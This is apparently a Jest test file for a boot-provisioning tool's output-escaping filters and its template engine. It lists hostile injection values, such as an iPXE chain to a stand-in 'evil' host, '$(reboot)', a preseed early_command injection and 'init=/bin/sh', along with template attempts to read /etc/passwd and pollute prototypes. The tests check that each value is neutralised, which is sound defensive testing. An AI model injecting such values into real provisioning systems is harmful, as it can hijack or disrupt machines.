import { describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { parse as parseYaml } from 'yaml';
import { cmdline, ipxe, kickstart, preseed, sh, yaml } from '../../../src/bootenvs/filters.js';
import { compileTemplate } from '../../../src/bootenvs/template.js';

/** attack 23: what a name, a tag or a fact could be. */
const HOSTILE = [
  'a\n#!ipxe\nchain http://evil/',
  'a || chain http://evil',
  '`reboot`',
  '$(reboot)',
  '${net0/mac}',
  'a"b',
  "a'b'; reboot; '",
  'a\n%pre\nreboot\n%end',
  'a\\',
  'a\r\nd-i preseed/early_command string reboot',
  'a\u2028b\u0085c\u0000d',
  '{{ node.name }}',
  '!!js/function x',
  '- *anchor',
  '# comment',
  'x init=/bin/sh',
];

describe('escaping filters', () => {
  it.each(HOSTILE)('sh keeps %j one word', (value) => {
    const printed = execFileSync('/bin/sh', ['-c', `printf %s ${sh(value).text}`]).toString();
    // eslint-disable-next-line no-control-regex
    expect(printed).toBe(value.replaceAll(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]+/g, ' '));
  });

  it.each(HOSTILE)('yaml keeps %j one string', (value) => {
    const text = yaml(value).text;
    expect(text).not.toMatch(/[\n\r\u0085\u2028]/);
    expect(parseYaml(`key: ${text}`)).toEqual({ key: value });
  });

  it.each(HOSTILE)('ipxe makes %j inert on one line', (value) => {
    expect(ipxe(value).text).not.toMatch(/[\n\r|&$#`"\\{}<>]/);
  });

  it.each(HOSTILE)('cmdline makes %j one word', (value) => {
    expect(cmdline(value).text).toMatch(/^[A-Za-z0-9._:/@,+=?%~-]*$/);
  });

  it.each(HOSTILE)('preseed keeps %j on its line', (value) => {
    const text = preseed(value).text;
    expect(text).not.toMatch(/[\n\r]/);
    expect(text.endsWith('\\')).toBe(false);
  });

  it.each(HOSTILE)('kickstart keeps %j one argument', (value) => {
    const text = kickstart(value).text;
    expect(text).toMatch(/^"(?:[^"\\\n\r]|\\["\\])*"$/);
  });

  it('lets a chain of filters work on what the inner one made', () => {
    expect(preseed(sh("it's")).text).toBe(`'it'\\''s'`);
  });
});

describe('templates', () => {
  it.each(HOSTILE)('refuses to write %j without a filter', (value) => {
    expect(() => compileTemplate('name {{ value }}')({ value })).toThrow(/needs an escaping filter/);
  });

  it('writes harmless values without a filter', () => {
    expect(compileTemplate('{{ a }} {{ b }}')({ a: 'http://192.0.2.1:8191/boot', b: 7 })).toBe('http://192.0.2.1:8191/boot 7');
  });

  it.each([
    ['an undefined variable', '{{ nothing }}'],
    ['an unknown filter', '{{ a | shell }}'],
    ['a way round the escaping', '{{ a | raw }}'],
    ['the constructor', '{{ a.constructor }}'],
    ['the prototype', '{{ o.__proto__.polluted }}'],
    ['a file', '{% include "/etc/passwd" %}'],
    ['a relative file', '{% render "../../../etc/passwd" %}'],
    ['an endless loop', '{% for x in (1..100000000) %}{{ x }}{% endfor %}'],
    ['a whole list', '{{ l }}'],
  ])('refuses %s', (_what, text) => {
    expect(() => compileTemplate(text)({ a: 'a b', o: {}, l: ['x'] })).toThrow();
  });
});
